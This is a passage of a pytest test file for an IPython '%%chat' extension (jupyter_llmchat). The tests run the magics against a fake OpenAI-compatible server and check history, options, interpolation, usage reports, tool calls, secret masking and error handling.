"""The ``%%chat`` magics in a real IPython shell (terminal flavour: no kernel), against the fake server.

Each test starts from no sessions and the default ``ChatMagics`` settings, pointed at the fake
server with ``%config`` as a user would. What crosses IOPub in a kernel is in test_kernel_iopub.py.
"""

from __future__ import annotations

import io
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

import jupyter_llmchat
from jupyter_llmchat import _sessions
from tests.fake_openai import FakeOpenAI, Reply

SECRET = "sk-test-SECRET123456"

#: Every setting a test may change, with the value it starts from.
DEFAULTS = {
    "model": "test-model",
    "system_prompt": "",
    "provider_name": "OpenAI-compatible",
    "params": {},
    "api_args": {},
    "api_headers": {},
    "credentials_env": "OPENAI_API_KEY",
    "default_format": "markdown",
    "display_rate_hz": 10.0,
    "record_metadata": True,
    "footer": True,
    "replay": True,
    "context_max_tokens": 2000,
}


@pytest.fixture
def ip(_ip: InteractiveShell, fake: FakeOpenAI, monkeypatch: pytest.MonkeyPatch) -> InteractiveShell:
    """The shell with no sessions, default settings, and base_url on the fake server."""
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    _sessions.registry.sessions.clear()
    config(_ip, base_url=fake.base_url, **DEFAULTS)
    magics = chat_magics(_ip)
    # Other test modules load the extension into shells of their own; sessions come from this one.
    _sessions.set_factory(magics._make_session, magics._refresh_from_config)
    assert magics.base_url == fake.base_url and magics.model == "test-model"
    return _ip


def chat_magics(ip: InteractiveShell) -> Any:
    return ip.magics_manager.registry["ChatMagics"]


def config(ip: InteractiveShell, **settings: Any) -> None:
    """``%config ChatMagics.name = value`` for each setting, as typed in a cell."""
    for name, value in settings.items():
        ip.run_line_magic("config", f"ChatMagics.{name} = {value!r}")


def run(ip: InteractiveShell, source: str) -> ExecutionResult:
    return ip.run_cell(source, store_history=False)


def texts(chat: jupyter_llmchat.Chat) -> list[tuple[str, str]]:
    return [(t.role, t.text) for t in chat.get_turns()]


def messages(body: dict[str, Any]) -> list[tuple[str, str]]:
    return [(m["role"], m["content"]) for m in body["messages"]]


# -- %%chat: streaming, history -------------------------------------------------------------


def test_cell_streams_as_plain_text_in_a_terminal(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    assert getattr(ip, "kernel", None) is None  # a terminal shell: no rich display
    config(ip, footer=False)  # the footer line has its own tests (test_context_magics.py)
    fake.script(Reply(chunks=["Hel", "lo ", "**world**", "!"]))
    result = run(ip, "%%chat\nSay hello\n")
    assert result.success
    out, err = capsys.readouterr()
    # The pieces as they arrived, then a newline: no Markdown rendering, no repr, no Out[].
    assert out == "Hello **world**!\n"
    assert err == ""
    chat = jupyter_llmchat.session()
    assert texts(chat) == [("user", "Say hello\n"), ("assistant", "Hello **world**!")]
    reply = chat.get_turns()[1]
    assert reply.partial is False and reply.finish_reason == "stop" and reply.model == "test-model"
    assert reply.meta.get("source") == "cell"


def test_second_cell_sends_the_history(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text="First answer."), Reply(text="Second answer."))
    run(ip, "%%chat\nFirst question\n")
    assert messages(fake.last_body()) == [("user", "First question\n")]
    run(ip, "%%chat\nSecond question\n")
    assert messages(fake.last_body()) == [
        ("user", "First question\n"),
        ("assistant", "First answer."),
        ("user", "Second question\n"),
    ]
    assert len(jupyter_llmchat.session().get_turns()) == 4


def test_line_prompt_reaches_the_server_verbatim(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    # Variables that IPython's $var / {var} expansion of magic lines would substitute.
    run(ip, "x = 42\nHOME = 'home'\nd = {'a': 1}")
    line = """What's "this" {x} $HOME {'a': 1}[d] f"{x!r}" -- -n and 'quotes' \\n"""
    result = run(ip, "%chat " + line)
    assert result.success
    assert messages(fake.last_body()) == [("user", line)]
    # Also when every {expr} would evaluate (IPython then expands all of them, or none).
    run(ip, "%chat What is {x} in $HOME, {x+1}?")
    assert messages(fake.last_body())[-1] == ("user", "What is {x} in $HOME, {x+1}?")


@pytest.mark.parametrize(
    "line, prompt",
    [
        ("-t 0 -- --new is not an option here", "--new is not an option here"),
        ("-5 degrees is cold", "-5 degrees is cold"),
        ("-s other -o ans   spaced   out  ", "spaced   out"),
        ("--session=other what is 'this'?", "what is 'this'?"),
    ],
)
def test_line_options_end_where_the_prompt_starts(
    ip: InteractiveShell, fake: FakeOpenAI, line: str, prompt: str
) -> None:
    assert run(ip, f"%chat {line}").success
    assert messages(fake.last_body())[-1] == ("user", prompt)


# -- {{ expr }} ------------------------------------------------------------------------------


def test_double_braces_are_interpolated(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    run(ip, "n = 3\nname = 'Ada'")
    run(ip, "%%chat\nCount to {{ n * 2 }} for {{name}}.\n")
    assert messages(fake.last_body()) == [("user", "Count to 6 for Ada.\n")]
    run(ip, "%chat Hi {{ name.upper() }}")
    assert messages(fake.last_body())[-1] == ("user", "Hi ADA")


def test_escaped_and_single_braces_and_code_are_untouched(
    ip: InteractiveShell, fake: FakeOpenAI
) -> None:
    run(ip, "x = 1")
    cell = (
        "Keep \\{{ x }} literal. Explain:\n"
        "def f(x):\n"
        '    return {"a": x, "b": f"{x!r:>{width}}"}\n'
        "s = '{0} {x}'.format(1, x=2)\n"
        "set_literal = {x}\n"
    )
    run(ip, "%%chat\n" + cell)
    assert messages(fake.last_body()) == [("user", cell.replace("\\{{", "{{"))]


def test_raising_expression_is_a_usage_error_and_sends_nothing(
    ip: InteractiveShell, fake: FakeOpenAI
) -> None:
    with pytest.raises(UsageError, match=r"undefined_thing.*NameError"):
        ip.run_cell_magic("chat", "", "Explain {{ undefined_thing + 1 }}")
    with pytest.raises(UsageError, match=r"1 / 0.*ZeroDivisionError"):
        ip.run_line_magic("chat", "What is {{ 1 / 0 }}?")
    assert fake.chat_requests() == []
    assert jupyter_llmchat.session().get_turns() == []


# -- -o and -f -------------------------------------------------------------------------------

CODE_ANSWER = "Here you go:\n\n```python\nprint('hi')\nx = {1: 2}\n```\n\nAnd a second:\n```\nsecond\n```\n"


@pytest.mark.parametrize(
    "options, answer, expected",
    [
        ("-o v", "Some **markdown**.", "Some **markdown**."),
        ("-o v -f markdown", "Some **markdown**.", "Some **markdown**."),
        ("-o v -f text", "plain text", "plain text"),
        ("-o v -f code", CODE_ANSWER, "print('hi')\nx = {1: 2}"),
        ("-o v -f code", "no fence here\n", "no fence here"),
        ("-f json -o v", '{"a": [1, 2], "b": null}', {"a": [1, 2], "b": None}),
        ("-f json -o v", 'Sure:\n```json\n{"b": 2}\n```\n', {"b": 2}),
    ],
)
def test_output_variable_and_format(
    ip: InteractiveShell, fake: FakeOpenAI, options: str, answer: str, expected: Any
) -> None:
    fake.script(Reply(text=answer))
    assert run(ip, f"%%chat {options}\nq\n").success
    assert ip.user_ns["v"] == expected
    assert jupyter_llmchat.session().get_turns()[-1].text == answer


def test_line_magic_output_variable(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text=CODE_ANSWER))
    run(ip, "%chat -o snippet -f code write code")
    assert ip.user_ns["snippet"] == "print('hi')\nx = {1: 2}"


def test_json_that_does_not_parse_is_a_usage_error_but_kept_in_history(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    ip.user_ns.pop("data", None)
    fake.script(Reply(text="not json, sorry"))
    result = run(ip, "%%chat -f json -o data\ngive me json\n")
    assert isinstance(result.error_in_exec, UsageError)
    assert "not valid JSON" in str(result.error_in_exec)
    assert "data" not in ip.user_ns
    assert texts(jupyter_llmchat.session())[-1] == ("assistant", "not json, sorry")
    out, err = capsys.readouterr()
    assert "not json, sorry" in out and "Traceback" not in out + err


# -- options for one cell, for the session ---------------------------------------------------


def test_model_temperature_and_max_tokens_apply_to_that_cell_only(
    ip: InteractiveShell, fake: FakeOpenAI
) -> None:
    config(ip, params={"temperature": 0.2, "max_tokens": 512})
    run(ip, "%%chat -m other-model -t 0.7 --max-tokens 9\none\n")
    body = fake.last_body()
    assert (body["model"], body["temperature"], body["max_tokens"]) == ("other-model", 0.7, 9)
    assert jupyter_llmchat.session().get_turns()[-1].model == "other-model"

    run(ip, "%%chat\ntwo\n")
    body = fake.last_body()
    assert (body["model"], body["temperature"], body["max_tokens"]) == ("test-model", 0.2, 512)
    assert len(body["messages"]) == 3  # the -m cell's exchange is history like any other

    run(ip, "%chat -t 0 three")  # 0 is a temperature, not "unset"
    assert fake.last_body()["temperature"] == 0
    run(ip, "%chat four")
    assert fake.last_body()["temperature"] == 0.2


def test_system_sets_the_prompt_from_then_on(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    run(ip, "%%chat --system 'Be terse.'\none\n")
    assert messages(fake.last_body()) == [("system", "Be terse."), ("user", "one\n")]
    run(ip, "%chat two")
    assert messages(fake.last_body())[0] == ("system", "Be terse.")
    assert jupyter_llmchat.session().system_prompt == "Be terse."
    assert chat_magics(ip).system_prompt == ""  # the setting for new sessions is unchanged
    run(ip, '%chat --system "Answer in French." -s \'default\' three')
    assert messages(fake.last_body())[0] == ("system", "Answer in French.")
    assert len(fake.last_body()["messages"]) == 6


def test_new_starts_the_conversation_afresh(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    run(ip, "%chat one")
    run(ip, "%chat two")
    run(ip, "%%chat --new\nthree\n")
    assert messages(fake.last_body()) == [("user", "three\n")]
    # The turns above stay in the session (shown, replayed), not in what the next cell sends.
    assert [t for _, t in texts(jupyter_llmchat.session())][0::2] == ["one", "two", "three\n"]
    run(ip, "%chat four")
    assert [text for _, text in messages(fake.last_body())][0::2] == ["three\n", "four"]


def test_no_history_sends_the_cell_alone_and_records_nothing(
    ip: InteractiveShell, fake: FakeOpenAI
) -> None:
    fake.script(Reply(text="A1"), Reply(text="aside"), Reply(text="A2"))
    run(ip, "%chat one")
    before = texts(jupyter_llmchat.session())
    run(ip, "%%chat --no-history -o v\nan aside\n")
    assert messages(fake.last_body()) == [("user", "an aside\n")]
    assert ip.user_ns["v"] == "aside"
    assert texts(jupyter_llmchat.session()) == before
    run(ip, "%chat two")
    assert messages(fake.last_body()) == [("user", "one"), ("assistant", "A1"), ("user", "two")]


def test_sessions_are_independent(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text="d1"), Reply(text="o1"), Reply(text="d2"), Reply(text="o2"))
    run(ip, "%chat one")
    run(ip, "%%chat -s other\nalpha\n")
    assert messages(fake.last_body()) == [("user", "alpha\n")]
    run(ip, "%chat two")
    assert messages(fake.last_body()) == [("user", "one"), ("assistant", "d1"), ("user", "two")]
    run(ip, "%chat -s other beta")
    assert messages(fake.last_body()) == [("user", "alpha\n"), ("assistant", "o1"), ("user", "beta")]
    assert _sessions.session_names() == ["default", "other"]


# -- user mistakes ----------------------------------------------------------------------------

MISTAKES = [
    ("%chat --bogus hello", "unrecognized"),
    ("%%chat --bogus\nhello", "unrecognized"),
    ("%chat -t 5 hello", "temperature"),
    ("%chat -t abc hello", "invalid float"),
    ("%%chat -t abc\nhello", "invalid float"),
    ("%chat --max-tokens 0 hello", "max_tokens"),
    ("%chat -f yaml hello", "invalid choice"),
    ("%chat -o 1abc hello", "variable name"),
    ("%chat --system '' hello", "--system"),
    ('%chat --system "unclosed hello', "No closing quotation"),
    ("%%chat -s 'unclosed\nhello", "No closing quotation"),
    ("%chat -s", "expected one argument"),
    ("%chat", "empty prompt"),
    ("%chat -t 0", "empty prompt"),
    ("%%chat\n   \n", "empty prompt"),
    ("%chat -s 'bad name!' hello", "bad session name"),
    ("%%chat -s 'bad name!'\nhello", "bad session name"),
    ("%chat {{ }}", "empty {{ }}"),
    ("%chat {{ nosuch + 1 }}", "nosuch"),
    ("%%chat hello there\nbody", "unexpected text on the %%chat line"),
    ("%chat_history -s nosuch", "no session named 'nosuch'"),
    ("%chat_history -n 0", "positive"),
    ("%chat_usage -s nosuch", "no session named 'nosuch'"),
    ("%chat_usage --bogus", "unrecognized"),
    ("%chat_reset -s nosuch", "no session named 'nosuch'"),
    ("%chat_config extra", "takes no arguments"),
]


@pytest.mark.parametrize("source, message", MISTAKES, ids=[m[0] for m in MISTAKES])
def test_mistakes_are_usage_errors_with_no_request_and_no_change(
    ip: InteractiveShell,
    fake: FakeOpenAI,
    capsys: pytest.CaptureFixture[str],
    source: str,
    message: str,
) -> None:
    fake.script(Reply(text="kept"))
    run(ip, "%chat first")
    before = texts(jupyter_llmchat.session())
    n_requests = len(fake.requests)
    capsys.readouterr()

    result = run(ip, source)

    assert isinstance(result.error_in_exec, UsageError), result.error_in_exec
    assert message in str(result.error_in_exec)
    out, err = capsys.readouterr()
    assert "UsageError" in err and "Traceback" not in out + err
    assert len(fake.requests) == n_requests
    assert _sessions.session_names() == ["default"]
    assert texts(jupyter_llmchat.session()) == before


def test_help_lists_the_options(ip: InteractiveShell, capsys: pytest.CaptureFixture[str]) -> None:
    run(ip, "%%chat?")
    out = capsys.readouterr().out
    for option in ("-s SESSION", "-m MODEL", "--system", "-t TEMPERATURE", "--max-tokens",
                   "-o VAR", "-f", "--new", "--no-history", "{{ expr }}", "%%chat"):
        assert option in out, option
    assert "for %chat, the cell body" not in out  # argparse ate a '%' of "%%chat"
    for name in ("chat_usage", "chat_history", "chat_reset", "chat_panel"):
        assert "-s SESSION" in ip.find_line_magic(name).__doc__, name
    assert "%config ChatMagics" in ip.find_line_magic("chat_config").__doc__


# -- reports ----------------------------------------------------------------------------------


def test_usage_sums_tokens_with_text_and_html_twins(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(
        Reply(text="a", usage={"prompt_tokens": 100, "completion_tokens": 7,
                               "prompt_tokens_details": {"cached_tokens": 40}}),
        Reply(text="b", usage={"prompt_tokens": 50, "completion_tokens": 3}),
    )
    run(ip, "%chat one")
    run(ip, "%chat two")
    report = ip.run_line_magic("chat_usage", "")
    text, page = repr(report), report._repr_html_()
    assert ip.display_formatter.format(report)[0]["text/plain"] == text
    row = text.splitlines()[2].split()
    assert row == ["default", "OpenAI-compatible", "test-model", "2", "150", "10", "40", "n/a"]
    for cell in (">150</td>", ">10</td>", ">40</td>", ">n/a</td>"):
        assert cell in page
    # Text columns read from the left, numbers from the right (JupyterLab right-aligns all).
    assert '<td style="text-align: left">test-model</td>' in page
    assert '<td style="text-align: right">150</td>' in page
    assert "no known price" in text and "no known price" in page


def test_a_cell_shows_each_tool_call_and_counts_every_round(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    """The model asks for a call (arguments split over chunks), the tool runs, the answer
    follows: the cell shows one line per call, -o gets the answer alone, history has all four
    turns and %chat_usage counts one answer with both requests' tokens."""
    config(ip, footer=False)
    call = {"id": "c1", "type": "function", "function": {"name": "add", "arguments": '{"a": 2, "b": 3}'}}
    fake.script(
        Reply(text="Let me add.", tool_calls=[call], finish_reason="tool_calls", tool_args_chars=3,
              usage={"prompt_tokens": 40, "completion_tokens": 6}),
        Reply(text="It is 5.", usage={"prompt_tokens": 60, "completion_tokens": 4}),
    )

    def add(a: int, b: int) -> int:
        """Add two numbers."""
        return a + b

    jupyter_llmchat.session().register_tool(add)
    assert run(ip, "%%chat -o answer\nWhat is 2 + 3?").success
    out, err = capsys.readouterr()
    # The call's line says how long it ran (issue 19).
    assert '[tool call] add({"a": 2, "b": 3})' in out and "[tool ok · " in out and err == ""
    assert ip.user_ns["answer"] == "It is 5."
    turns = jupyter_llmchat.session().get_turns()
    assert [t.role for t in turns] == ["user", "assistant", "user", "assistant"]
    assert fake.chat_requests()[1].body["messages"][-1] == {"role": "tool", "tool_call_id": "c1", "content": "5"}
    usage = repr(ip.run_line_magic("chat_usage", ""))
    row = usage.splitlines()[2].split()
    assert row[3:6] == ["1", "100", "10"]  # one answer; both requests' tokens
    assert "include 1 tool round" in usage


def test_usage_unknown_tokens_are_na_not_zero(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text="a", usage=None))
    run(ip, "%chat one")
    text = repr(ip.run_line_magic("chat_usage", ""))
    assert text.splitlines()[2].split()[3:] == ["1", "n/a", "n/a", "n/a", "n/a"]
    assert "no token counts for 1 answer: the server did not report them." in text
    assert "llama.cpp" not in text  # not the server here: no blame on it


def test_usage_turns_sessions_and_known_cost(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    config(ip, provider_name="OpenAI", model="gpt-4o")
    fake.default_reply = Reply(text="a", usage={"prompt_tokens": 10_000, "completion_tokens": 1_000})
    run(ip, "%chat one")
    run(ip, "%chat two")
    run(ip, "%chat -s other three")
    report = ip.run_line_magic("chat_usage", "--turns")
    text = repr(report)
    lines = text.splitlines()
    assert lines[2].split()[:4] == ["default", "OpenAI", "gpt-4o", "2"]
    assert lines[3].split()[:4] == ["other", "OpenAI", "gpt-4o", "1"]
    assert lines[4].split()[:2] == ["total", "3"]
    # Priced: genai-prices knows gpt-4o at OpenAI, so no n/a in the cost column.
    cost = lines[4].split()[-1]
    assert cost.startswith("$") and float(cost[1:]) > 0
    turn_rows = [ln.split() for ln in lines if ln.split()[:1] in (["default"], ["other"])][2:]
    assert [r[:2] for r in turn_rows] == [["default", "1"], ["default", "2"], ["other", "1"]]
    assert all(r[-1] == "stop" for r in turn_rows)
    page = report._repr_html_()
    assert page.count("<tr>") == 1 + 3 + 1 + 3  # head, rows, total; head, turns
    only = repr(ip.run_line_magic("chat_usage", "-s other"))
    assert "default" not in only and "total" not in only


def test_history_shows_the_last_n_exchanges(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text="A1"), Reply(text="A2"))
    run(ip, "%chat Q1")
    run(ip, "%chat Q2")
    view = ip.run_line_magic("chat_history", "-n 1")  # one exchange: the question and its answer
    assert repr(view) == "[user] Q2\n\n[assistant] A2"
    assert repr(ip.run_line_magic("chat_history", "-n 2")).startswith("[user] Q1")
    markdown = view._repr_markdown_()
    assert "**you**" in markdown and "Q2" in markdown and "Q1" not in markdown
    full = repr(ip.run_line_magic("chat_history", ""))
    assert full.index("Q1") < full.index("A1") < full.index("Q2") < full.index("A2")


def test_reset_and_reset_all(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    run(ip, "%chat one")
    run(ip, "%chat -s other two")
    capsys.readouterr()
    run(ip, "%chat_reset")
    assert "reset: default" in capsys.readouterr().out
    assert jupyter_llmchat.session().get_turns() == []
    assert len(jupyter_llmchat.session("other").get_turns()) == 2
    run(ip, "%chat three")
    assert messages(fake.last_body()) == [("user", "three")]
    run(ip, "%chat_reset --all")
    assert "reset: default, other" in capsys.readouterr().out
    assert all(not c.get_turns() for c in _sessions.sessions().values())
    assert "no turns yet" in repr(ip.run_line_magic("chat_history", "-s other"))


def test_config_masks_secrets(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    port = fake.base_url.split(":")[2].split("/")[0]
    config(
        ip,
        api_headers={"Authorization": f"Bearer {SECRET}", "X-Title": "my notebook"},
        api_args={"api_key": SECRET, "metadata": {"auth_token": SECRET, "team": "blue"}, "n": 1},
    )
    run(ip, "%chat hi")  # a session appears in the view, and the secrets do reach the server
    assert fake.requests[-1].headers["authorization"] == f"Bearer {SECRET}"
    assert fake.last_body()["api_key"] == SECRET
    # A user:pass@ base_url is refused (secrets go in credentials=); a query may carry one.
    config(ip, base_url=f"http://user:pw-{SECRET}@127.0.0.1:{port}/v1")
    with pytest.raises(jupyter_llmchat.ConfigurationError) as info:
        jupyter_llmchat.session("by-url")
    assert "credentials=" in str(info.value) and "pw-" not in str(info.value)
    config(ip, base_url=f"http://127.0.0.1:{port}/v1?key=pw-{SECRET}")
    jupyter_llmchat.session("by-url")  # made from the new setting, no request needed

    view = ip.run_line_magic("chat_config", "")
    for shown in (repr(view), view._repr_html_(), ip.display_formatter.format(view)[0]["text/plain"]):
        assert "SECRET123456" not in shown
        assert "pw-" not in shown
        assert "my notebook" not in shown  # every header value is masked
        assert "blue" in shown and "X-Title" in shown and "***" in shown
        assert f"127.0.0.1:{port}/v1" in shown


def test_config_reflects_config_changes(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    config(ip, model="other-model", system_prompt="Be nice.", display_rate_hz=4, default_format="text")
    text = repr(ip.run_line_magic("chat_config", ""))
    assert "other-model" in text and "Be nice." in text and "4.0" in text
    assert "ChatMagics.default_format" in text and "text" in text.split("ChatMagics.default_format")[1]
    run(ip, "%chat hi")  # a new session takes the new settings
    assert fake.last_body()["model"] == "other-model"
    assert messages(fake.last_body())[0] == ("system", "Be nice.")


def lookup(q: str) -> str:
    """Look q up."""
    return q.upper()


def test_a_session_is_one_object_and_new_settings_apply_in_place(
    ip: InteractiveShell, fake: FakeOpenAI
) -> None:
    """DESIGN §2: the handle stays the session; its tools and listeners survive every change."""
    handle = jupyter_llmchat.session()
    handle.register_tool(lookup)
    heard: list[str] = []
    handle.add_listener(lambda chat, event, exchange: heard.append(event))

    def sent() -> dict[str, Any]:
        body = fake.last_body()
        assert [t["function"]["name"] for t in body["tools"]] == ["lookup"]
        assert jupyter_llmchat.session() is handle
        return body

    run(ip, "%chat one")
    config(ip, model="other-model")  # after the first question: applies to the next one
    run(ip, "%chat two")
    assert sent()["model"] == "other-model"
    assert [c for _, c in messages(fake.last_body())] == ["one", fake.default_reply.text, "two"]
    config(ip, params={"temperature": 0.5}, system_prompt="Be brief.", api_args={"seed": 7},
           base_url=fake.root_url)  # the fake answers /chat/completions without /v1 too
    run(ip, "%chat three")
    body = sent()
    assert fake.chat_requests()[-1].path == "/chat/completions"
    assert (body["temperature"], body["seed"]) == (0.5, 7)
    assert messages(body)[0] == ("system", "Be brief.") and len(body["messages"]) == 6
    run(ip, "%chat -s second hello")  # making another session meanwhile must not matter
    assert fake.last_body()["model"] == "other-model"

    run(ip, "%chat_reset")
    assert handle.get_turns() == []
    run(ip, "%chat four")
    assert messages(sent()) == [("system", "Be brief."), ("user", "four")]
    config(ip, model="third-model")
    run(ip, "%%chat --new\nfive\n")
    assert sent()["model"] == "third-model"
    assert messages(fake.last_body()) == [("system", "Be brief."), ("user", "five\n")]
    assert heard.count("turn") == 5 and [t.name for t in handle.get_tools()] == ["lookup"]


def test_system_flag_stays_until_the_system_prompt_setting_changes(
    ip: InteractiveShell, fake: FakeOpenAI
) -> None:
    run(ip, '%chat --system "Talk like a pirate." one')
    config(ip, model="other-model")  # another setting: the session's own prompt stays
    run(ip, "%chat two")
    assert messages(fake.last_body())[0] == ("system", "Talk like a pirate.")
    assert fake.last_body()["model"] == "other-model"
    config(ip, system_prompt="Be brief.")
    run(ip, "%chat three")
    assert messages(fake.last_body())[0] == ("system", "Be brief.")


@pytest.mark.parametrize(
    "setting, bad",
    [
        ("display_rate_hz", 0),
        ("display_rate_hz", 1000),
        ("params", {"temprature": 0.5}),
        ("params", {"temperature": 9}),
        ("base_url", "ftp://example.com"),
        ("default_format", "yaml"),
    ],
)
def test_bad_settings_are_refused(
    ip: InteractiveShell, caplog: pytest.LogCaptureFixture, setting: str, bad: Any
) -> None:
    magics = chat_magics(ip)
    before = getattr(magics, setting)
    config(ip, **{setting: bad})  # %config logs the trait error rather than raising it
    assert getattr(magics, setting) == before
    assert any(setting in r.getMessage() or "yaml" in r.getMessage() for r in caplog.records)


# -- errors, busy sessions, interrupts -------------------------------------------------------


def test_server_error_is_a_short_message_without_traceback(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.script(Reply(text="kept"))
    run(ip, "%chat first")
    before = texts(jupyter_llmchat.session())
    capsys.readouterr()
    fake.script(*[Reply(status=500, headers={"Retry-After": "0"})] * 3)
    result = run(ip, "%%chat\nthis fails\n")
    out, err = capsys.readouterr()
    assert len(fake.chat_requests()) == 1 + 3  # retried, then given up
    assert "chat error:" in err and "500" in err and "/v1/chat/completions" in err
    assert len((out + err).strip().splitlines()) <= 2
    assert "Traceback" not in out + err
    assert result.error_in_exec is None
    assert texts(jupyter_llmchat.session()) == before


def test_auth_error_names_no_secret(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    config(ip, api_headers={"Authorization": f"Bearer {SECRET}"})
    fake.require_auth = "Bearer the-right-one"
    run(ip, "%chat hello")
    out, err = capsys.readouterr()
    assert len(fake.chat_requests()) == 1  # a 401 is not retried
    assert "chat error:" in err and "401" in err and "credentials" in err
    assert "SECRET123456" not in out + err and "Traceback" not in out + err
    assert jupyter_llmchat.session().get_turns() == []


def test_verbose_xmode_shows_the_traceback(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.script(Reply(status=404, error_message="no such model"))
    ip.run_line_magic("xmode", "Verbose")
    try:
        result = run(ip, "%chat hello")
    finally:
        ip.run_line_magic("xmode", "Context")
    assert isinstance(result.error_in_exec, jupyter_llmchat.APIStatusError)
    assert "Traceback" in capsys.readouterr().out


def test_broken_stream_keeps_the_partial_answer(
    ip: InteractiveShell, fake: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    fake.script(Reply(chunks=["Half ", "an ", "answer", " never sent"], cut_after=3))
    run(ip, "%chat go")
    out, err = capsys.readouterr()
    assert out.startswith("Half an answer")
    # One notice, not two: the error line says the answer is kept.
    assert "partial" not in out and err.count("chat error:") == 1 and "marked partial" in err
    assert "Traceback" not in out + err
    reply = jupyter_llmchat.session().get_turns()[-1]
    assert (reply.text, reply.partial, reply.finish_reason) == ("Half an answer", True, "error")


def test_busy_session_is_refused(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    chat = jupyter_llmchat.session()
    fake.script(Reply(text="slow answer", chunk_chars=1, delay=0.05))
    worker = threading.Thread(target=lambda: list(chat.stream("slow")))
    worker.start()
    try:
        deadline = time.monotonic() + 5
        while not chat.busy and time.monotonic() < deadline:
            time.sleep(0.005)
        assert chat.busy
        with pytest.raises(UsageError, match="busy"):
            ip.run_cell_magic("chat", "", "me too")
        with pytest.raises(UsageError, match="busy"):
            ip.run_line_magic("chat_reset", "")
    finally:
        worker.join(10)
    assert len(fake.chat_requests()) == 1
    assert texts(chat) == [("user", "slow"), ("assistant", "slow answer")]


class _CtrlCOnWrite(io.StringIO):
    """A stdout where the user presses Ctrl-C once, during the ``n``-th write."""

    def __init__(self, n: int) -> None:
        super().__init__()
        self.n = n

    def write(self, s: str) -> int:
        self.n -= 1
        if self.n == 0:
            raise KeyboardInterrupt
        return super().write(s)


def test_interrupt_while_printing_keeps_the_partial_turn_and_frees_the_session(
    ip: InteractiveShell, fake: FakeOpenAI, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake.script(Reply(chunks=["one ", "two ", "three ", "four"]), Reply(text="next"))
    screen = _CtrlCOnWrite(3)
    monkeypatch.setattr("sys.stdout", screen)
    with pytest.raises(UsageError, match="Ctrl-C"):  # one line in the cell, not a traceback
        ip.run_cell_magic("chat", "", "count")
    chat = jupyter_llmchat.session()
    assert not chat.busy  # the lock is not left held by a suspended stream
    reply = chat.get_turns()[-1]
    assert (reply.role, reply.text, reply.partial) == ("assistant", "one two three ", True)
    assert reply.finish_reason == "interrupted"
    assert "interrupted" in screen.getvalue()
    run(ip, "%chat go on")
    assert messages(fake.last_body()) == [
        ("user", "count"), ("assistant", "one two three "), ("user", "go on")
    ]


# -- the Python API and the magics share sessions ----------------------------------------------


def test_session_and_use_share_history_with_the_magics(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    fake.script(Reply(text="py answer"), Reply(text="cell answer"))
    jupyter_llmchat.session().chat("from python")
    run(ip, "%chat from a cell")
    assert messages(fake.last_body()) == [
        ("user", "from python"), ("assistant", "py answer"), ("user", "from a cell")
    ]
    assert len(jupyter_llmchat.session().get_turns()) == 4

    custom = jupyter_llmchat.chat_openai_compatible(
        fake.base_url, model="custom-model", system_prompt="custom system"
    )
    jupyter_llmchat.use(custom)
    assert jupyter_llmchat.session() is custom
    run(ip, "%%chat\nhello custom\n")
    assert fake.last_body()["model"] == "custom-model"
    assert messages(fake.last_body()) == [("system", "custom system"), ("user", "hello custom\n")]
    assert len(custom.get_turns()) == 2
    assert "hello custom" in repr(ip.run_line_magic("chat_history", ""))

    # A Chat given to use() is the user's: new settings and --new never swap it for another.
    config(ip, model="other-model")
    run(ip, "%%chat --new\nagain\n")
    assert jupyter_llmchat.session() is custom
    assert fake.last_body()["model"] == "custom-model"

    assert messages(fake.last_body()) == [("system", "custom system"), ("user", "again\n")]

    jupyter_llmchat.use(custom.copy(), name="twin")
    run(ip, "%chat -s twin twin question")
    assert fake.last_body()["model"] == "custom-model"
    # system + the copied conversation (the --new exchange only) + question
    assert len(fake.last_body()["messages"]) == 4
    assert len(custom.get_turns()) == 4  # --new kept the exchange above it

    run(ip, "%chat_reset")
    assert jupyter_llmchat.session() is custom and custom.get_turns() == []


def test_unload_and_reload(ip: InteractiveShell, fake: FakeOpenAI) -> None:
    ip.run_line_magic("unload_ext", "jupyter_llmchat")
    try:
        result = run(ip, "%chat hi")
        assert isinstance(result.error_in_exec, UsageError)
        assert ip.find_cell_magic("chat") is None
    finally:
        ip.run_line_magic("load_ext", "jupyter_llmchat")
    config(ip, base_url=fake.base_url, model="test-model")
    assert run(ip, "%chat hi").success
    assert len(fake.chat_requests()) == 1


def test_session_made_before_config_picks_it_up_and_keeps_its_turns(
    ip: InteractiveShell, fake: FakeOpenAI
) -> None:
    """As after a restart: %load_ext restores the session, then the %config lines follow."""
    config(ip, base_url="http://127.0.0.1:9/v1")
    restored = _sessions.session()  # made from the settings in force, as the restore does
    restored.set_turns([jupyter_llmchat.Turn.user("earlier q"),
                        jupyter_llmchat.Turn("assistant", [jupyter_llmchat.ContentText("earlier a")])])
